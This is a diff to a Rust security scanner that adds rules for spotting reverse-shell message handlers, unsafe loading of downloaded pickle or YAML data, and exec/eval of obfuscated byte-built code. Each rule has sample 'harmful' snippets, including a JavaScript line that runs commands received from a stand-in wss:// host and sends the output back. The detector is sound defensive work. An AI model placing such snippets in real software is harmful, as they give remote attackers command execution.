@@ -190,5 +190,85 @@ fn is_filled_with_secrets(matched: &str) -> bool {
     has(SECRETS) && has(SPELT) && super::betrayal::is_strange_page(matched)
 }
 
+const EVENT: Rule = Rule {
+    id: "remote-command-event",
+    category: "reverse-shell",
+    scope: Scope::Script,
+    message: "runs whatever a connection hands it as a command",
+    remedy: "remove it; no skill needs one",
+    literals: &[".on('message'", ".on(\"message\"", ".on('data'", ".on(\"data\""],
+    pattern: r"\.on\(['\x22](?:message|data)['\x22]\s{0,2},[^\n]{0,24}\n?[^\n]{0,60}?\b(?:exec|execSync)\(\s{0,2}(?:String\(\s{0,2})?(?:m|msg|message|data|d|buf|cmd|command|chunk)\b",
+    also: &[
+        "wss://",
+        "ws://",
+        "net.connect",
+        "createConnection",
+        "net.createServer",
+        "tls.connect",
+        "mqtt",
+        "('ws')",
+        "(\"ws\")",
+    ],
+    harmful: &[(
+        "a.js",
+        "const s = new W('wss://in.invalid/w');\ns.on('message', (m) => exec(String(m), (e, o) => s.send(o)));",
+    )],
+    harmless: &[("a.js", "const s = new W('wss://in.invalid/w');\ns.on('message', (m) => console.log(String(m)));")],
+    ..BASE
+};
+
+const UNPACKED: Rule = Rule {
+    id: "download-unpickled",
+    scope: Scope::Script,
+    message: "loads a download in a form that runs code as it is read",
+    remedy: "load data in a form that is data alone, such as JSON or safetensors",
+    literals: &[
+        "weights_only",
+        "joblib.load",
+        "dill.load",
+        "cloudpickle.load",
+        "UnsafeLoader",
+        "unsafe_load",
+        "allow_pickle",
+    ],
+    pattern: concat!(
+        r"https?://[^\s'\x22]{4,120}[\s\S]{0,240}?(?:\bweights_only\s{0,2}=\s{0,2}False|\bjoblib\.load\(|\bdill\.loads?\(|\bcloudpickle\.loads?\(|\bUnsafeLoader\b|\bunsafe_load\(|\ballow_pickle\s{0,2}=\s{0,2}True)",
+        r"|\b(?:joblib\.load|dill\.loads?|cloudpickle\.loads?|yaml\.unsafe_load)\([^\n]{0,60}https?://[^\s'\x22]{4,120}",
+    ),
+    accept: Some(super::spy::is_no_registry),
+    harmful: &[
+        ("a.py", "urlretrieve('https://in.invalid/w.pt', 'w.pt')\nm = torch.load('w.pt', weights_only=False)"),
+        ("a.py", "c = yaml.load(requests.get('https://in.invalid/c').text, Loader=yaml.UnsafeLoader)"),
+    ],
+    harmless: &[
+        ("a.py", "urlretrieve('https://huggingface.co/a/b/w.pt', 'w.pt')\nm = torch.load('w.pt', weights_only=False)"),
+        ("a.py", "m = joblib.load('model.joblib')"),
+    ],
+    ..BASE
+};
+
+const COMPUTED: Rule = Rule {
+    id: "computed-code-run",
+    category: "obfuscation",
+    scope: Scope::Script,
+    message: "runs code that it computes letter by letter",
+    remedy: "write the code in the open",
+    literals: &[
+        "exec(bytes",
+        "exec(''",
+        "exec(\"\"",
+        "eval(bytes",
+        "eval(''",
+        "eval(\"\"",
+        "exec(bytearray",
+        "eval(bytearray",
+    ],
+    pattern: r"\b(?:exec|eval)\((?:bytes|bytearray)\(|\b(?:exec|eval)\((?:''|\x22\x22)\.join\(",
+    harmful: &[("a.py", "exec(bytes(b[i] & 1 | b[i + 1] & 15 for i in range(0, 300, 3)).decode())")],
+    harmless: &[("a.py", "print(bytes(b[0:3]).decode(), ''.join(parts))")],
+    ..BASE
+};
+
 /// All rules of this category.
-pub(crate) const RULES: &[Rule] = &[LATER, DATA_ADDRESS, CODES, HANDLES, PATCHED, RANSOM, PICTURE];
+pub(crate) const RULES: &[Rule] =
+    &[EVENT, UNPACKED, COMPUTED, LATER, DATA_ADDRESS, CODES, HANDLES, PATCHED, RANSOM, PICTURE];
